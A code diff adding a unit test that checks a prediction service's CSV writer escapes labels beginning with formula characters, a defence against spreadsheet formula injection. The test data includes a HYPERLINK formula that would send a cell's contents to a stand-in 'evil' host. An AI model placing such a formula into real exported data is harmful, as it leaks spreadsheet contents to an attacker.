@@ -164,3 +164,13 @@ def test_the_prediction_is_ranked_and_rounded():
     assert rows == [[labels[1], "0.665241", "c", "0.244728"]]
     content = json.loads(responses.write("application/json", found, "m", "v"))
     assert content == {"predictions": found, "model": "m", "version": "v"}
+
+
+def test_a_label_is_no_formula_of_a_spreadsheet():
+    labels = ('=HYPERLINK("http://evil/?"&A1,"fig")', "@SUM(1+1)", "-2+3", "+a", "-2", "fig")
+    pairs = [{"label": label, "score": 0.5} for label in labels]
+    for answer in ({"top": pairs}, {"labels": pairs, "top": pairs}):
+        (row,) = csv.reader(io.StringIO(responses.write("text/csv", [answer], "m", "v").decode()))
+        assert row[::2] == [*(f"'{label}" for label in labels[:4]), "-2", "fig"]
+    content = json.loads(responses.write("application/json", [{"top": pairs}], "m", "v"))
+    assert content["predictions"] == [{"top": pairs}]
